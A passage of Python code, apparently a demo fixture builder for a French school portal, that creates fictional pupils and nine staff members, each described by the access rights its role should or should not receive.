        sex: str, links: tuple[LinkRow, ...], used_name: str = "", has_ine: bool = True, left_on: date | None = None,
        exit_reason: str = "", mef: str = "", mobile: int | None = None, email: str = "", country: str = "100",
    ) -> PupilRow:  # fmt: skip
        """`born`: (age reached in the calendar year of the rentrée, month, day)."""
        rank = len(self._pupils)
        row = PupilRow(
            key=FIRST_PUPIL + rank,
            number=4001 + rank,
            birth_name=birth_name,
            first_name=first_name,
            birth_on=None if born is None else date(self.year - born[0], born[1], born[2]),
            division=division,
            mef=mef or _MEF_OF.get(division, ""),
            ine=ine_rnie(101 + rank) if has_ine else "",
            used_name=used_name,
            sex=sex,
            entered_on=date(self.year, 9, 1) if left_on is None or left_on > self.on else date(self.year - 1, 9, 1),
            left_on=left_on,
            exit_reason=exit_reason,
            email=email,
            mobile="" if mobile is None else demo_mobile(mobile),
            country=country,
            foreign_birth_town="" if country == "100" else "KYIV",
            links=links,
            rule=rule,
        )
        self._pupils.append(row)
        return row

    @staticmethod
    def _link(to: GuardianRow, kinship: str, *, level: int = LEGAL, lives_with: bool = True) -> LinkRow:
        return LinkRow(to.key, level, kinship, lives_with=lives_with, pays=level == LEGAL and lives_with)

    @staticmethod
    def _people_of_the_school(on: date, year: int) -> tuple[StaffMember, ...]:
        # size: nine people, one after another
        # In August the new year's base is open already: the demo's form tutors hold their mandates from then on.
        starts_on, ends_on = min(date(year, 9, 1), on), date(year + 1, 8, 31)
        at_home = f"{SCHOOL.uai}$UAJ$PU$N$T3$CLG$340"
        elsewhere = f"{OTHER_SCHOOL.uai}$UAJ$PU$N$T3$CLG$340"
        head = StaffRow(12, "dir", "VASSEUR", "VASSEUR", "Claire", "DIR", "2", date(1971, 12, 1))
        deputy = StaffRow(13, "dir", "BENALI", "BENALI", "Rachid", "DIR", "1", date(1978, 2, 9))
        tutor = StaffRow(
            9301, "epp", "LE BRAS", "KERVELLA", "Maïwenn", "ENS", "2", date(1984, 5, 17), "CERT C.N.",
            ("L0202", "LET MODERN"), (MandateRow("5E B", starts_on, ends_on),),
        )  # fmt: skip
        # His mandate on 6E A ended last year and is still in the file: it opens nothing.
        second = StaffRow(
            9302, "epp", "POIRIER", "POIRIER", "Étienne", "ENS", "1", date(1990, 1, 22), "CERT C.N.",
            ("L1300", "MATHEMATIQ"),
            (MandateRow("6E A", date(year - 1, 9, 1), date(year, 8, 31)), MandateRow("3E C", starts_on, ends_on)),
        )  # fmt: skip
        # Same number as the head, another type: another human.
        namesake = StaffRow(12, "local", "TRAORÉ", "TRAORÉ", "Awa", "ENS", "2")
        return (
            StaffMember(
                "cvasseur",
                "Claire",
                "Vasseur",
                "claire.vasseur@example.org",
                "Cheffe d’établissement",
                "DIR",
                SCHOOL,
                "head",
                "Head: responsible for the school in the portal (FrEduRneResp), sees all of it and nothing else.",
                (at_home,),
                head,
            ),
            StaffMember(
                "rbenali",
                "Rachid",
                "Benali",
                "rachid.benali@example.org",
                "Adjoint de la cheffe d’établissement",
                "DIR",
                SCHOOL,
                "deputy",
                "Deputy: the same deeds as the head, once the head has confirmed the link.",
                (),
                deputy,
            ),
            StaffMember(
                "mkervella",
                "Maïwenn",
                "Kervella",
                "maiwenn.kervella@example.org",
                "Professeure principale de 5e B",
                "ENS",
                SCHOOL,
                "form_tutor",
                "Form tutor of 5E B: resets a pupil of her division, and of no other.",
                (),
                tutor,
            ),
            StaffMember(
                "epoirier",
                "Étienne",
                "Poirier",
                "etienne.poirier@example.org",
                "Professeur principal de 3e C",
                "ENS",
                SCHOOL,
                "form_tutor",
                "Form tutor of 3E C whose mandate on 6E A has ended: the ended one opens nothing.",
                (),
                second,
            ),
            StaffMember(
                "atraore",
                "Awa",
                "Traoré",
                "awa.traore@example.org",
                "Professeure",
                "ENS",
                SCHOOL,
                "",
                "Same STS number as the head, another type: gets no right of hers.",
                (),
                namesake,
            ),
            StaffMember(
                "omarchand",
                "Odile",
                "Marchand",
                "odile.marchand@example.org",
                "Secrétaire, sans délégation",
                "ADM",
                SCHOOL,
                "",
                "Secretary: no right before the head delegates.",
            ),
            StaffMember(
                "plegrand",
                "Pascale",
                "Legrand",
                "pascale.legrand@example.org",
                "Cheffe d’un autre établissement",
                "DIR",
                OTHER_SCHOOL,
                "head",
                "Head of another school: nothing of this one ever answers her.",
                (elsewhere,),
            ),
            StaffMember(
                "nfontaine",
                "Nadia",
                "Fontaine",
                "nadia.fontaine@example.org",
                "Assistance académique, au rectorat",
                "ADM",
                RECTORATE,
                "academy_support",
                "Academy support: finds anyone of the academy, and of no other.",
            ),
            StaffMember(
                "ymorvan",
                "Yann",
                "Morvan",
                "yann.morvan@example.org",
                "Exploitant, à la DSI du rectorat",
                "ADM",
                RECTORATE,
                "operator",
                "Operator: connects services, sees what each would learn of one person; no list, no journal, no file.",
            ),
        )
